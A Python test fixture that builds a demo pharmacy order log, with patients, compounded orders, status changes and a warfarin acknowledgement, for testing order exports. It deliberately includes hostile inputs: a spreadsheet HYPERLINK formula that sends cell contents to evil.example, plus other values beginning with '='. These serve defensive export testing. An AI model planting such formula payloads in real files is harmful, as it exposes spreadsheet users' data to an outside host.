"""A demo order log for the order-export tests: orders of 1 to 6 ingredient lines through every
status (one cancelled with its reason), a warfarin patient's order with its acknowledgement, an
override, and hostile values (formula payloads in the prescriber and sig, an RTL name, newlines
in the sig). Made through the real services on a real SQLite file."""

from __future__ import annotations

from decimal import Decimal
from typing import Any

from doc_helpers import add_warfarin_patient, example_order, setup_pharmacy
from k2desk.services import orders as svc
from k2desk.services.context import AppContext
from k2desk.services.patients import PatientInput, add_patient

INGREDIENTS = [("MK-7 (menaquinone-7)", "180", "mcg"), ("Cholecalciferol", "25", "mcg"),
               ("Calcium citrate", "200", "mg"), ("Magnesium glycinate", "100", "mg"),
               ("Zinc gluconate", "5", "mg"), ("Boron citrate", "1", "mg")]
HOSTILE_PRESCRIBER = '=HYPERLINK("http://evil.example/?x="&A1,"Dr Lopez")'
HOSTILE_SIG = "=1+1\nTake 1 capsule by mouth once daily.\nWith food."
RTL_NAME = "محمد الأحمد"
# (statuses walked after create, note for each) per order; the i-th order has i+1 lines.
WALKS: list[list[tuple[str, str]]] = [
    [],
    [("sent-for-signature", "")],
    [("sent-for-signature", ""), ("signed-original-received", "fax from the prescriber's office")],
    [("sent-for-signature", ""), ("signed-original-received", "by hand"), ("compounded", "")],
    [("sent-for-signature", ""), ("signed-original-received", "mail"), ("compounded", ""),
     ("dispensed", "")],
    [("sent-for-signature", ""), ("cancelled", "=Prescriber changed therapy; call back")],
]


def order_file(n_lines: int, *, prescriber: str | None = None, sig: str | None = None,
               quantity: str = "90") -> dict[str, Any]:
    data = example_order()
    data["ingredients"] = [{"ingredient": i, "strength": s, "unit": u} for i, s, u in INGREDIENTS[:n_lines]]
    data["compound"]["quantity"] = quantity
    data["compound"]["days_supply"] = quantity  # one capsule a day (issue 14 checks the arithmetic)
    data["compound"]["sig"] = "Take 1 capsule by mouth once daily with a meal."
    if prescriber is not None:
        data["prescriber"]["name"] = prescriber
    if sig is not None:
        data["compound"]["sig"] = sig
    return data


def make_order_log(ctx: AppContext) -> dict[str, Any]:
    """Store the demo log; returns the ids and what each order went through."""
    setup_pharmacy(ctx)
    ana = add_patient(ctx, PatientInput(name="Ana Souza", dob="1956-03-14", nkda=True))
    rtl = add_patient(ctx, PatientInput(name=RTL_NAME, dob="1961-12-01", nkda=True))
    walter = add_warfarin_patient(ctx)
    ids: list[int] = []
    for i, walk in enumerate(WALKS):
        patient = rtl if i % 2 else ana
        data = order_file(i + 1, prescriber=HOSTILE_PRESCRIBER if i == 1 else None,
                          sig=HOSTILE_SIG if i in (1, 4) else None)
        oid, _doc = svc.create_order(ctx, patient, data)
        for status, note in walk:
            svc.order_status(ctx, oid, status, note)
        ids.append(oid)
    # A second dispensed order (2 lines, 30 capsules) and a warfarin patient's order with its
    # acknowledgement and an overridden NPI warning.
    extra, _ = svc.create_order(ctx, ana, order_file(2, quantity="30"))
    for status, note in WALKS[4]:
        svc.order_status(ctx, extra, status, note)
    ids.append(extra)
    bad_npi = order_file(1)
    bad_npi["prescriber"]["npi"] = "1234567890"
    warf, _ = svc.create_order(ctx, walter, bad_npi, {"prescriber.npi": "Verified on NPPES by phone"},
                               ack_by="Dana Reyes RPh",
                               ack_reason="INR followed by the clinic; K2 kept steady",
                               ack_contact="phone", ack_contact_note="Dr Lopez's nurse")
    ids.append(warf)
    return {"ids": ids, "ana": ana, "rtl": rtl, "walter": walter, "cancelled": ids[5],
            "dispensed": [ids[4], extra], "warfarin_order": warf}


def expected_dispensed(orders_json: list[dict[str, Any]]) -> dict[tuple[str, str], Decimal]:
    out: dict[tuple[str, str], Decimal] = {}
    for o in orders_json:
        if o["status"] == "dispensed":
            f = o["fields"]
            key = (f["compound.dosage_form"], f["compound.quantity_unit"])
            out[key] = out.get(key, Decimal(0)) + Decimal(f["compound.quantity"])
    return out
